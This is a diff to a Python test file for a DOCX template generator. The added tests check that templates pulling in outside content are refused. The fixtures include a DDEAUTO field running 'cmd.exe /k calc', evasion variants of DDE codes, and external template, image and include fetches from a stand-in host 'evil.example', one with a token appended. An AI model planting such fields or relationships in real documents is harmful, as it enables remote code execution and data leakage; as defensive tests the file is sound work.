@@ -5,7 +5,7 @@ from __future__ import annotations
 import io
 import os
 import re
-from collections.abc import Callable, Iterator
+from collections.abc import Callable, Iterator, Mapping
 from contextlib import suppress
 
 import pytest
@@ -20,7 +20,7 @@ from lxml import etree
 from formgen import registry
 from formgen.errors import UsageError
 from formgen.formats import docx
-from formgen.formats.docx import syntax
+from formgen.formats.docx import carried, syntax
 from formgen.formats.docx.package import DOCUMENT_BYTES, TEMPLATE_BYTES, w
 from formgen.formats.docx.wording import LONGEST
 from formgen.settings import Workspace
@@ -303,10 +303,6 @@ PLACES = {
     "in a control": (in_body(f"<w:p>{CONTROL}</w:p>"), "teksti"),
     "in a text box": (in_body(BOX), "teksti"),
     "in an attribute": (in_body(f'<w:p w:rsidR="{HIDDEN}"/>'), "teksti"),
-    "in the instruction of a field": (
-        in_body(f"<w:p><w:r><w:instrText>QUOTE {HIDDEN}</w:instrText></w:r></w:p>"),
-        "teksti",
-    ),
     "in hidden text": (in_body(f"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{HIDDEN}</w:t></w:r></w:p>"), "teksti"),
     "in removed text": (in_body(f"<w:p><w:del><w:r><w:delText>{HIDDEN}</w:delText></w:r></w:del></w:p>"), "teksti"),
     "outside the body": (with_part(BODY, "</w:document>", f"{HIDDEN}</w:document>"), "teksti"),
@@ -370,6 +366,141 @@ def test_what_is_not_rendered_stays_as_it_is() -> None:
     made = members(docx.Template(data, QUESTIONS).draw(Sheet({}), words(FORM)))
     assert {name: made[name] for name in hidden} == hidden
     assert HIDDEN in etree.fromstring(made[CORE]).findtext("{*}contentStatus")
+
+
+# --- what is carried --------------------------------------------------------------------------
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+EVIL = "https://evil.example/x"
+SETTINGS_RELATIONS = (
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+)
+
+
+def with_relation(kind: str, target: str, mode: str = "External", parts: Mapping[str, bytes] | None = None) -> bytes:
+    """Return the packaged template with a relation of its body besides, and the parts."""
+    name = "word/_rels/document.xml.rels"
+    mode = f' TargetMode="{mode}"' if mode else ""
+    kind = kind if "/" in kind else f"{OFFICE}/{kind}"
+    relation = f'<Relationship Id="rX" Type="{kind}" Target="{target}"{mode}/>'
+    rels = PARTS[name].replace(b"</Relationships>", f"{relation}</Relationships>".encode())
+    return packed({**PARTS, name: rels, **(parts or {})})
+
+
+def with_type(listed: str, parts: Mapping[str, bytes]) -> bytes:
+    """Return the packaged template with parts of a type that is listed besides."""
+    types = PARTS["[Content_Types].xml"].replace(b"</Types>", f"{listed}</Types>".encode())
+    return packed({**PARTS, "[Content_Types].xml": types, **parts})
+
+
+def coded(*pieces: str, sign: str = "instrText") -> str:
+    """Return a paragraph that is a field whose code is split over runs."""
+    runs = "".join(f'<w:r><w:{sign} xml:space="preserve">{piece}</w:{sign}></w:r>' for piece in pieces)
+    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
+    return f"<w:p>{begin}{runs}{middle}<w:r><w:t>1</w:t></w:r>{end}</w:p>"
+
+
+INNER = coded(" TITLE ").removeprefix("<w:p>").removesuffix("</w:p>")
+FOOTNOTES = f'<w:footnotes xmlns:w="{w("p")[1:-2]}"><w:footnote w:id="1">{{}}</w:footnote></w:footnotes>'
+PICTURE = (
+    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:'
+    'office"><v:imagedata {}/></v:shape></w:pict></w:r></w:p>'
+)
+DRAGGED_IN = {
+    **{
+        f"{kind} from elsewhere": (with_relation(kind, EVIL), f"external:{kind}")
+        for kind in ("image", "oleObject", "frame", "subDocument", "header", "attachedTemplate", "mailMergeSource")
+    },
+    "picture without the word external": (with_relation("image", EVIL, ""), "external:image"),
+    "attached template": (
+        packed(
+            {
+                **PARTS,
+                "word/_rels/settings.xml.rels": SETTINGS_RELATIONS.format(
+                    f'<Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="{EVIL}" TargetMode="External"/>'
+                ).encode(),
+            }
+        ),
+        "external:attachedTemplate",
+    ),
+    "macros": (packed({**PARTS, "word/vbaProject.bin": b"x"}), "macros"),
+    "macros by another name": (
+        with_relation("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.bin", ""),
+        "vbaProject",
+    ),
+    "object": (with_relation("oleObject", "embeddings/x.exe", "", {"word/embeddings/x.exe": b"MZ"}), "embedded"),
+    "object in another place": (with_relation("oleObject", "x.exe", "", {"word/x.exe": b"MZ"}), "oleObject"),
+    "control": (with_relation("control", "activeX/x.xml", "", {"word/activeX/x.xml": b"<x/>"}), "embedded"),
+    "foreign chunk": (with_relation("aFChunk", "x.html", "", {"word/x.html": b"<p/>"}), "altChunk"),
+    "web extension": (
+        with_relation("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "x.xml", ""),
+        "webextensiontaskpanes",
+    ),
+    "old drawing": (in_body(PICTURE.format(f'src="{EVIL}"')), EVIL),
+    "old drawing by its origin": (in_body(PICTURE.format(f'o:href="{EVIL}"')), EVIL),
+    "DDEAUTO": (in_body(coded(' DDEAUTO c:\\cmd.exe "/k calc" ')), "DDEAUTO"),
+    "DDE in small letters": (in_body(coded(" dde c:\\cmd.exe ")), "dde"),
+    "split over runs": (in_body(coded(" DDE", "AUTO x")), "DDEAUTO"),
+    "as removed text": (in_body(coded(" DDEAUTO x", sign="delInstrText")), "DDEAUTO"),
+    "as text": (in_body(coded(" DDEAUTO x", sign="t")), "DDEAUTO"),
+    "INCLUDEPICTURE": (in_body(coded(f' INCLUDEPICTURE "{EVIL}" \\d ')), "INCLUDEPICTURE"),
+    "INCLUDETEXT": (in_body(coded(f' INCLUDETEXT "{EVIL}" ')), "INCLUDETEXT"),
+    "MACROBUTTON": (in_body(coded(" MACROBUTTON x y ")), "MACROBUTTON"),
+    "calculation": (in_body(coded(" = 1 + 1 ")), "= 1 + 1"),
+    "simple field": (in_body('<w:p><w:fldSimple w:instr="DDE x"><w:r/></w:fldSimple></w:p>'), "DDE x"),
+    "code without a field": (in_body("<w:p><w:r><w:instrText>DDE x</w:instrText></w:r></w:p>"), "DDE x"),
+    "field without an end": (
+        in_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE x</w:instrText></w:r></w:p>'),
+        "DDE x",
+    ),
+    "code that another field says": (
+        in_body(coded(" x").replace('"begin"/></w:r>', f'"begin"/></w:r>{INNER}', 1)),
+        "x",
+    ),
+    "link with an answer": (in_body(coded(f' HYPERLINK "{EVIL}?', "{{ token }}", '" ')), "HYPERLINK"),
+    "in a footnote": (
+        with_type(
+            '<Override PartName="/WORD/notes.bin" ContentType="application/vnd.openxmlformats-officedocument.'
+            'wordprocessingml.footnotes+xml"/>',
+            {"word/notes.bin": FOOTNOTES.format(coded(" DDE x ")).encode()},
+        ),
+        "DDE x",
+    ),
+    "in a part that its ending tells of": (
+        with_type(
+            '<Default Extension="foo" ContentType="application/vnd.openxmlformats-officedocument.'
+            'wordprocessingml.footnotes+xml"/>',
+            {"word/notes.FOO": FOOTNOTES.format(coded(" DDE x ")).encode("utf-16")},
+        ),
+        "DDE x",
+    ),
+    "in the header": (with_part(HEAD, "</w:hdr>", f"{coded(' DDE x ')}</w:hdr>"), "DDE x"),
+}
+
+
+@pytest.mark.parametrize("what", DRAGGED_IN)
+def test_what_runs_or_is_fetched_is_refused_by_the_check_and_by_generate(
+    what: str, refuse: Callable[[bytes], str]
+) -> None:
+    data, named = DRAGGED_IN[what]
+    problem = refuse(data)
+    assert problem.startswith(("Pohja ei saa viitata muualle", "Pohjassa ei voi käyttää kenttäkoodia"))
+    assert named in problem
+
+
+def test_an_expression_in_the_code_of_a_field_is_refused_as_both() -> None:
+    code, expression = told(in_body(coded(f" PAGE {HIDDEN} ")))
+    assert code.startswith("Pohjassa ei voi käyttää kenttäkoodia PAGE {{")
+    assert expression.startswith("Pohjassa ei voi käyttää tätä (teksti): ")
+
+
+@pytest.mark.parametrize("code", carried.CODES)
+def test_a_field_code_that_is_on_the_list_stays(code: str) -> None:
+    assert told(in_body(coded(f" {code.lower()} x "))) == []
+
+
+def test_a_link_to_click_on_stays() -> None:
+    assert told(with_relation("hyperlink", "https://www.kela.fi/")) == []
 
 
 # --- what is allowed --------------------------------------------------------------------------
